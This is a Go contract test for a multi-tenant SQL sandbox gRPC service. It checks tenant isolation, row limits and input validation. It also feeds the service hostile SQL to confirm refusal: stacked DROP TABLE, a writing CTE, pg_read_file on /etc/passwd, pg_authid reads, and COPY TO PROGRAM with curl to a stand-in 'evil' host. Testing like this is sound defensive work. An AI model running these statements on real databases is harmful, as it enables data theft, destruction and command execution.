package analysis_test

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	analysisv1 "github.com/shopmind/shopmind/gen/go/shopmind/analysis/v1"
	"github.com/shopmind/shopmind/internal/analytics/demodata"
	"github.com/shopmind/shopmind/internal/analytics/warehouse"
	"github.com/shopmind/shopmind/internal/testutil/stack"
)

// TestContractExecuteSql: the SQL lab over gRPC. The caller's tenant only, whatever the
// statement says; hostile statements refused with the reason; bad requests name the field.
func TestContractExecuteSql(t *testing.T) {
	s := stack.StartServices(t, "analysis")
	ctx := context.Background()
	q := analysisv1.NewQueryServiceClient(s.Conn)

	// Two tenants with orders: demo (the admin's) and acme.
	demo, acme := stack.DemoTenant(t, s.DB), stack.AddTenant(t, s.DB, "acme")
	store, err := warehouse.Open(ctx, "", s.DB.Pool, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i, tenant := range []int64{demo, acme} {
		if _, err := demodata.Generate(ctx, store.Writer(), demodata.Options{TenantID: tenant, Orders: 200 + 100*i, Seed: int64(i + 1),
			Now: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC), Days: 60}); err != nil {
			t.Fatal(err)
		}
	}
	acmeCtx := stack.WithToken(ctx, s.Login(t, "acme", "admin", stack.AdminPassword))

	tenantsSeen := func(caller context.Context, sql string) []float64 {
		t.Helper()
		resp, err := q.ExecuteSql(caller, &analysisv1.ExecuteSqlRequest{Sql: sql})
		if err != nil {
			t.Fatalf("ExecuteSql %q: %v", sql, err)
		}
		if len(resp.GetRows()) == 0 {
			t.Fatalf("ExecuteSql %q: no rows", sql)
		}
		var out []float64
		for _, r := range resp.GetRows() {
			out = append(out, r.GetValues()[0].GetNumberValue())
		}
		return out
	}
	for _, sql := range []string{
		"SELECT i_tenant_id, count(*) FROM basic_orders GROUP BY i_tenant_id",
		"SELECT i_tenant_id FROM basic_orders WHERE i_tenant_id <> 0 OR TRUE",
		"SELECT o.i_tenant_id FROM basic_orders o JOIN basic_shops s ON true WHERE s.i_tenant_id = 2 OR true",
		"WITH t AS (SELECT * FROM basic_orders) SELECT i_tenant_id FROM t UNION ALL SELECT i_tenant_id FROM basic_goods",
	} {
		for caller, tenant := range map[context.Context]int64{s.Admin: demo, acmeCtx: acme} {
			for _, seen := range tenantsSeen(caller, sql) {
				if int64(seen) != tenant {
					t.Fatalf("%q as tenant %d returned a row of tenant %v", sql, tenant, seen)
				}
			}
		}
	}

	resp, err := q.ExecuteSql(s.Admin, &analysisv1.ExecuteSqlRequest{Sql: "SELECT order_id, paid_amount, ordered_at FROM basic_orders ORDER BY order_id", MaxRows: 5})
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.GetRows()) != 5 || !resp.GetTruncated() || resp.GetDialect() != "postgres" ||
		!strings.Contains(resp.GetSql(), "i_tenant_id = $1") || !strings.Contains(resp.GetSql(), "LIMIT 6") ||
		len(resp.GetParams()) != 1 || int64(resp.GetParams()[0].GetNumberValue()) != demo {
		t.Fatalf("ExecuteSql with max_rows 5: %v", resp)
	}
	if types := []string{resp.GetColumns()[0].GetType(), resp.GetColumns()[1].GetType(), resp.GetColumns()[2].GetType()}; !slices.Equal(types, []string{"integer", "decimal", "timestamp"}) {
		t.Fatalf("column types %v", types)
	}

	for sql, reason := range map[string]string{
		"SELECT 1; DROP TABLE basic_orders":                                "exactly one statement",
		"WITH d AS (DELETE FROM basic_orders RETURNING *) SELECT * FROM d": "writing CTE",
		"SELECT set_config('default_transaction_read_only', 'off', false)": "set_config",
		"SELECT pg_read_file('/etc/passwd')":                               "pg_read_file",
		"SELECT * FROM pg_catalog.pg_authid":                               "pg_authid",
		"SELECT * FROM tenant.users":                                       "tenant.users",
		"COPY basic_orders TO PROGRAM 'curl http://evil'":                  "COPY",
		"SELECT dblink_exec('dbname=x', 'DROP TABLE basic_orders')":        "dblink_exec",
		"SELECT no_such_column FROM basic_orders":                          "no_such_column",
	} {
		_, err := q.ExecuteSql(s.Admin, &analysisv1.ExecuteSqlRequest{Sql: sql})
		if status.Code(err) != codes.InvalidArgument || !strings.Contains(status.Convert(err).Message(), reason) {
			t.Errorf("ExecuteSql %q: want InvalidArgument naming %q, got %v", sql, reason, err)
		}
	}

	_, err = q.ExecuteSql(s.Admin, &analysisv1.ExecuteSqlRequest{})
	if status.Code(err) != codes.InvalidArgument || !slices.Contains(stack.Violations(err), "sql") {
		t.Fatalf("ExecuteSql without sql: want InvalidArgument naming sql, got %v", err)
	}
	_, err = q.ExecuteSql(s.Admin, &analysisv1.ExecuteSqlRequest{Sql: "SELECT 1", MaxRows: 200000})
	if status.Code(err) != codes.InvalidArgument || !slices.Contains(stack.Violations(err), "max_rows") {
		t.Fatalf("ExecuteSql with max_rows 200000: want InvalidArgument naming max_rows, got %v", err)
	}
	if _, err := q.ExecuteSql(ctx, &analysisv1.ExecuteSqlRequest{Sql: "SELECT 1"}); status.Code(err) != codes.Unauthenticated {
		t.Fatalf("ExecuteSql without a token: want Unauthenticated, got %v", err)
	}

	info, err := q.GetSqlSandbox(s.Admin, &analysisv1.GetSqlSandboxRequest{})
	if err != nil || info.GetDialect() != "postgres" || info.GetMaxRows() <= 0 || info.GetTimeoutMs() <= 0 ||
		!slices.Contains(info.GetTables(), "basic_orders") || !slices.Contains(info.GetFunctions(), "sum") ||
		slices.Contains(info.GetFunctions(), "pg_sleep") || len(info.GetRules()) < 5 {
		t.Fatalf("GetSqlSandbox: %v %v", info, err)
	}
}
